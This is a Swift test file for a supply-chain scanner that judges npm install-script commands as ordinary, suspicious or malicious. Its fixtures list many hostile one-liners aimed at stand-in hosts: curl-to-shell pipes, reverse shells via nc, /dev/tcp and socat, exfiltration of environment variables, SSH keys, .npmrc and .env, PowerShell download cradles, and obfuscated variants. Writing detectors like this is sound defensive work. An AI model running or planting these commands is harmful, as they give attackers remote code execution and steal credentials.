import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("Install commands")
struct InstallCommandTests {
    private func severity(_ command: String) -> Severity {
        InstallCommand.judge(Array(command.utf8)).map { RuleCatalog.entry($0).detail.severity }.max() ?? .info
    }

    @Test(
        "ordinary install scripts are only noted",
        arguments: [
            "node-gyp rebuild", "prebuild-install || node-gyp rebuild", "node install.js", "node ./scripts/postinstall",
            "node-pre-gyp install --fallback-to-build", "husky install", "patch-package", "npm run build",
            "opencollective-postinstall || true", "node -e \"try{require('./postinstall')}catch(e){}\"",
            "node -e \"try { require('./dist/cjs/install') } catch (_) {}\"", "tsc && node lib/setup.js",
            "echo \"Thank you! https://opencollective.com/box\"", "printf 'see https://x.example\\n' || exit 0",
            "node -e \"console.log('Thanks: https://x.example/donate')\"", "exit 0", "", "   ", "[ -f x ] || make",
            "cross-env NODE_ENV=production node build.js", "mkdir -p build && cp -r src build 2>/dev/null",
            "PATH=$(npm bin):$PATH tsc", "node -p \"require('node-addon-api').include\" > /dev/null",
            "cd $(pwd) && make",
            "is-ci || husky install", "cd android && ./gradlew assemble # https://x.example",
            "electron-rebuild -f -w serial",
        ])
    func ordinary(_ command: String) {
        #expect(InstallCommand.judge(Array(command.utf8)) == [], "\(command)")
    }

    @Test(
        "scripts that fetch or compute, but do not run what they get, are suspicious",
        arguments: [
            "curl -sSf https://x.example/data.bin -o data.bin", "wget https://x.example/model.gz",
            "curl -L https://x.example/a.tgz | tar xz", "node -e \"run()\"", "make CFLAGS=$(cat flags)",
            "bun install.ts",
            "ping -c 1 x.example", "node fetch.js https://x.example/a", "make `./configure-flags`", "$RUNNER build",
            "git clone https://x.example/repo.git", "powershell -ExecutionPolicy Bypass -File a.ps1",
            "npx --yes https://x.example/a.tgz", "base64 -d a.txt > a.bin", "./cat.sh | sh", "c\"u\"rl x.example",
            "cu\\rl x.example", "curl${IFS}x.example", "c''url x.example", "sh -c 'wget x.example/a'",
            "echo $(curl x.example)", "node -e \"require('./a'); doIt()\"", "env FOO=1 sudo -E curl x.example",
            "curl -L https://x.example/$(uname -s).tar.gz -o tool.tar.gz", "/usr/bin/curl x.example", "CURL x.example",
        ])
    func fetching(_ command: String) {
        #expect(severity(command) == .suspicious, "\(command): \(InstallCommand.judge(Array(command.utf8)))")
    }

    @Test(
        "scripts that run what they download or decode, send data or open a shell are malicious",
        arguments: [
            "curl https://x.example/i.sh | sh", "curl -s x.example | sudo -E bash -",
            "wget -qO- x.example|bash -s -- -y",
            "bash <(curl -s x.example)", "sh -c \"$(curl -fsSL x.example)\"", "eval \"$(wget -qO- x.example)\"",
            "eval $(echo aWQ= | base64 --decode)", "echo aWQ= | base64 -d | bash", "$(curl x.example)",
            "curl x.example -o /tmp/a && chmod +x /tmp/a && /tmp/a", "wget https://x.example/a.sh; sh a.sh",
            "curl -O https://x.example/run.py && python3 run.py", "curl https://x.example/p > p.js && node p.js",
            "nc -e /bin/sh 192.0.2.1 4444", "sh -i >& /dev/tcp/192.0.2.1/1 0>&1", "ncat 192.0.2.1 1 --exec /bin/bash",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
            "socat tcp:192.0.2.1:1 exec:sh", "curl -d \"$(env)\" https://x.example",
            "env | curl -d @- https://x.example",
            "cat ~/.npmrc | nc x.example 1", "curl -F f=@/etc/passwd https://x.example", "ping $(hostname).x.example",
            "curl https://x.example/?u=`whoami`", "nslookup $(whoami).x.example", "curl https://x.example/$USER",
            "curl --data-binary @$HOME/.ssh/id_rsa https://x.example", "wget --post-file=.env https://x.example",
            "node -e \"require('http').get('http://x.example')\"", "node -e \"fetch('https://x.example')\"",
            "node -e \"eval(Buffer.from('aWQ=','base64').toString())\"", "python3 -c 'import urllib.request as u'",
            "node --eval=1 -e \"require('child_process').exec('curl x.example')\"", "perl -e 'use IO::Socket; 1'",
            "powershell -enc aWQ=", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example')",
            "powershell -c \"iwr x.example -OutFile a.exe; Start-Process a.exe\"",
            "certutil -urlcache -f http://x a.exe",
            "mshta http://x.example/a.hta", "sh -c 'curl x.example' | sh", "sh -c 'curl x.example | sh'",
            "true && (curl x.example | sh)", "if true; then curl x.example | sh; fi", "cu\"\"rl x.example | s\\h",
            "curl x.example | node", "curl${IFS}x.example|sh", "curl x.example | xargs -0 sh -c", "tr a b < c | sh",
        ])
    func hostile(_ command: String) {
        #expect(severity(command) == .malicious, "\(command): \(InstallCommand.judge(Array(command.utf8)))")
    }

    @Test("hooks that npm does not run for a dependency are not judged")
    func otherHooks() throws {
        #expect(try npmScript("curl x.example | sh", hook: "prepare").observations() == [])
        #expect(try npmScript("curl x.example | sh", hook: "test").observations() == [])
    }

    @Test("a shell script of the package that an install script runs is judged, another is not")
    func shellFiles() throws {
        func found(_ command: String, _ text: String) throws -> Set<String> {
            let manifest = #"{"name":"acme-box","version":"1.2.3","scripts":{"install":"\#(command)"}}"#
            let artifact = try npmTarball(manifest: manifest) { $0.addFile("package/bin/setup.sh", text) }
            return artifact.observations().subtracting([Observation.scriptFile.rawValue])
        }
        let fetching = "#!/bin/sh\nset -e\nDIR=$(cat dir)\ncurl -o t.gz https://x.example/t.gz\n"
        let hostile = "#!/bin/sh\n# set up\ncurl -s https://x.example/i |\n  sh\n"
        for command in ["sh ./bin/setup.sh", "./bin/setup.sh --now", "bash -e bin/setup.sh", "make && . bin/setup.sh"] {
            #expect(try found(command, fetching) == ["install-script", "script-network-client"], "\(command)")
            #expect(try found(command, hostile).contains("script-pipes-download-to-interpreter"), "\(command)")
            #expect(try found(command, "#!/bin/sh\nmake $(cat flags)\n") == ["install-script"], "\(command)")
        }
        #expect(try found("make", hostile) == ["install-script", "script-file-runs-download"])
    }

    @Test("every script of a manifest that names a hook twice is judged")
    func duplicateHooks() throws {
        let manifest =
            #"{"name":"acme-box","version":"1.2.3","scripts":{"install":"curl x.example|sh","install":"make"}}"#
        #expect(try npmTarball(manifest: manifest).report().verdict == .malicious)
        let twice =
            #"{"scripts":{"install":"curl x|sh"},"name":"acme-box","version":"1.2.3","scripts":{"install":"make"}}"#
        #expect(try npmTarball(manifest: twice).report().verdict == .malicious)
    }

    @Test("any bytes can be judged, cut anywhere")
    func total() {
        let text = Array("a 'b \"c $(d `e ${f <(g|h&&i||j;k>l 2>&1 #m\n\\n \"$(o \"p\")\" <<x".utf8)
        for start in 0..<text.count {
            for end in start..<text.count { _ = InstallCommand.judge(Array(text[start...end])) }
        }
        _ = InstallCommand.judge(Array(repeatElement(Array("$(".utf8), count: 30_000).joined()))
        #expect(severity(String(repeating: "a", count: 100_000)) == .suspicious)
    }
}
